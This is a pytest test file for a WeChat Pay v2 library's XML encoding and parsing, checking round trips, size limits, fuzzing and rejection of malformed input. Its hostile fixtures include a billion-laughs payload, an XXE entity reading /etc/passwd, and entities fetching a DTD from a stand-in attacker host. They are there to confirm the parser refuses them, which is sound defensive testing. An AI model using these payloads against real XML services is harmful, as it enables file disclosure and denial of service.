import random

import pytest

from tests.wx import cdata_xml
from wechat.pay_v2.errors import XMLError
from wechat.pay_v2.xml import MAX_BODY_BYTES, from_xml, to_xml

# A real-shaped unifiedorder answer: CDATA strings, newlines between fields.
UNIFIEDORDER_ANSWER = b"""<xml>
<return_code><![CDATA[SUCCESS]]></return_code>
<return_msg><![CDATA[OK]]></return_msg>
<appid><![CDATA[wx2421b1c4370ec43b]]></appid>
<mch_id><![CDATA[10000100]]></mch_id>
<nonce_str><![CDATA[IITRi8Iabbblz1Jc]]></nonce_str>
<sign><![CDATA[7921E432F65EB8ED0CE9755F0E86D72F]]></sign>
<result_code><![CDATA[SUCCESS]]></result_code>
<prepay_id><![CDATA[wx201411101639507cbf6ffd8b0779950874]]></prepay_id>
<trade_type><![CDATA[JSAPI]]></trade_type>
</xml>"""


# -- to_xml / round trips ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "腾讯-游戏",
        "a & b < c > d \" e ' f",
        "]]>",
        "x]]>y]]>z",
        "]]]]>>",
        "",
        "  spaced  ",
        '{"goods_detail":[{"goods_id":"1"}]}',
        "line1\nline2",
        "😀",
    ],
)
def test_string_values_round_trip(value):
    assert from_xml(to_xml({"body": value})) == {"body": value}


def test_ints_are_written_bare_and_strings_in_cdata():
    assert to_xml({"total_fee": 101, "body": "x"}) == (
        b"<xml><total_fee>101</total_fee><body><![CDATA[x]]></body></xml>"
    )
    assert from_xml(to_xml({"total_fee": 101})) == {"total_fee": "101"}


def test_cdata_terminator_is_split_safely():
    assert to_xml({"a": "]]>"}) == b"<xml><a><![CDATA[]]]]><![CDATA[>]]></a></xml>"


def test_none_values_are_not_written():
    assert to_xml({"attach": None, "body": "x"}) == b"<xml><body><![CDATA[x]]></body></xml>"


def test_output_is_utf8():
    assert "腾讯".encode() in to_xml({"body": "腾讯"})


@pytest.mark.parametrize("name", ["", "1abc", "a-b", "a b", "a:b", "a\n", "<a>", "ä"])
def test_invalid_field_names_are_refused(name):
    with pytest.raises(ValueError, match="name"):
        to_xml({name: "x"})


@pytest.mark.parametrize("value", ["\x00", "a\x1fb", "\ufffe"])
def test_characters_xml_cannot_carry_are_refused(value):
    with pytest.raises(ValueError, match="characters"):
        to_xml({"body": value})


# -- from_xml: what WeChat sends ---------------------------------------------------------------


def test_parses_real_answer_with_cdata():
    fields = from_xml(UNIFIEDORDER_ANSWER)
    assert fields["prepay_id"] == "wx201411101639507cbf6ffd8b0779950874"
    assert fields["return_msg"] == "OK"
    assert len(fields) == 9


def test_parses_bare_numbers_and_cdata_alike():
    body = b"<xml><total_fee>1</total_fee><cash_fee><![CDATA[1]]></cash_fee></xml>"
    assert from_xml(body) == {"total_fee": "1", "cash_fee": "1"}


def test_empty_elements_give_empty_strings():
    assert from_xml(b"<xml><a></a><b/><c><![CDATA[]]></c></xml>") == {"a": "", "b": "", "c": ""}


def test_accepts_str_input_and_xml_declaration():
    body = '<?xml version="1.0" encoding="UTF-8"?>\n<xml><body>腾讯</body></xml>'
    assert from_xml(body) == {"body": "腾讯"}


def test_declared_encoding_is_ignored_body_is_always_utf8():
    body = '<?xml version="1.0" encoding="ISO-8859-1"?><xml><a>é</a></xml>'.encode()
    assert from_xml(body) == {"a": "é"}


def test_body_of_exactly_max_bytes_is_accepted():
    prefix, suffix = b"<xml><a>", b"</a></xml>"
    body = prefix + b"x" * (MAX_BODY_BYTES - len(prefix) - len(suffix)) + suffix
    assert len(body) == MAX_BODY_BYTES
    assert len(from_xml(body)["a"]) > 60_000


def test_max_bytes_can_be_lowered():
    with pytest.raises(XMLError, match="larger"):
        from_xml(cdata_xml({"a": "x" * 100}), max_bytes=50)


# -- from_xml: hostile and broken input --------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><a>&lol3;</a></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><return_code>&xxe;</return_code></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<xml><a>1</a></xml>"""

EXTERNAL_DTD = b'<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd"><xml><a>1</a></xml>'

HOSTILE = {
    "empty": b"",
    "whitespace-only": b"  \r\n\t ",
    "garbage-bytes": bytes(range(256)),
    "not-xml": b"return_code=SUCCESS",
    "json": b'{"return_code": "SUCCESS"}',
    "html-error-page": b"<html><body>502 Bad Gateway</body></html>",
    "truncated": b"<xml><return_code><![CDATA[SUCC",
    "unclosed-root": b"<xml><a>1</a>",
    "two-roots": b"<xml><a>1</a></xml><xml><a>2</a></xml>",
    "billion-laughs": BILLION_LAUGHS,
    "external-entity": EXTERNAL_ENTITY,
    "parameter-entity": PARAMETER_ENTITY,
    "external-dtd": EXTERNAL_DTD,
    "doctype-only": b"<!DOCTYPE xml><xml><a>1</a></xml>",
    "undefined-entity": b"<xml><a>&nbsp;</a></xml>",
    "five-megabytes": b"<xml><a>" + b"x" * (5 * 1024 * 1024) + b"</a></xml>",
    "max-plus-one": b"<xml><a>" + b"x" * (MAX_BODY_BYTES + 1 - 18) + b"</a></xml>",
    "latin-1": "<xml><body>café</body></xml>".encode("latin-1"),
    "utf-16": "<xml><a>1</a></xml>".encode("utf-16"),
    "duplicate-tags": b"<xml><total_fee>1</total_fee><total_fee>100</total_fee></xml>",
    "nested": b"<xml><a><b>1</b></a></xml>",
    "child-attributes": b'<xml><a x="1">1</a></xml>',
    "root-attributes": b'<xml version="1"><a>1</a></xml>',
    "root-not-xml": b"<root><a>1</a></root>",
    "text-in-root": b"<xml>hello<a>1</a></xml>",
    "text-between-fields": b"<xml><a>1</a>hello<b>2</b></xml>",
    "namespaced-field": b'<xml><p:a xmlns:p="urn:x">1</p:a></xml>',
    "namespaced-root": b'<xml xmlns="urn:x"><a>1</a></xml>',
    "unbound-prefix": b"<xml><p:a>1</p:a></xml>",
}


def test_max_plus_one_case_is_really_one_byte_over():
    assert len(HOSTILE["max-plus-one"]) == MAX_BODY_BYTES + 1


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_or_broken_body_raises_xml_error(body):
    with pytest.raises(XMLError) as caught:
        from_xml(body)
    assert "root:" not in str(caught.value)  # never echoes /etc/passwd content
    assert len(str(caught.value)) < 200


@pytest.mark.parametrize("body", [None, 42, ["<xml/>"]])
def test_non_text_input_raises_xml_error(body):
    with pytest.raises(XMLError):
        from_xml(body)


def test_lone_surrogate_in_str_input_raises_xml_error():
    with pytest.raises(XMLError, match="UTF-8"):
        from_xml("<xml><a>\ud800</a></xml>")


def test_random_bytes_and_truncations_only_ever_raise_xml_error():
    rng = random.Random(20180704)  # fixed seed: reproducible fuzzing
    valid = UNIFIEDORDER_ANSWER
    samples = [rng.randbytes(rng.randint(1, 300)) for _ in range(300)]
    samples += [valid[:cut] for cut in range(0, len(valid), 7)]
    samples += [_flip_byte(rng, valid) for _ in range(300)]
    for body in samples:
        try:
            result = from_xml(body)
        except XMLError:
            continue
        assert isinstance(result, dict)
        assert all(isinstance(v, str) for v in result.values())


def _flip_byte(rng: random.Random, body: bytes) -> bytes:
    index = rng.randrange(len(body))
    return body[:index] + bytes([rng.randrange(256)]) + body[index + 1 :]
